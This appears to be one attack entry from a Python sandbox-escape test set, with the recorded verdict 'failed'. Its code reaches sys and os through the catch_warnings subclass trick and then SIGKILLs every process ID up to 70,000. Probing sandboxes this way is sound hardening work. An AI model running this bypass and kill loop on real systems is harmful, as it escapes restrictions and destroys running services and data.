# /// attack
# rows = [36, 63]
# title = "kill every process number"
# verdict = "failed"
# ///
sys = next(
    c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "catch_warnings"
)()._module.sys

os = sys.modules["os"]
for number in range(1, 70_000):
    if number != os.getpid():
        try:
            os.kill(number, 9)
        except OSError:
            pass
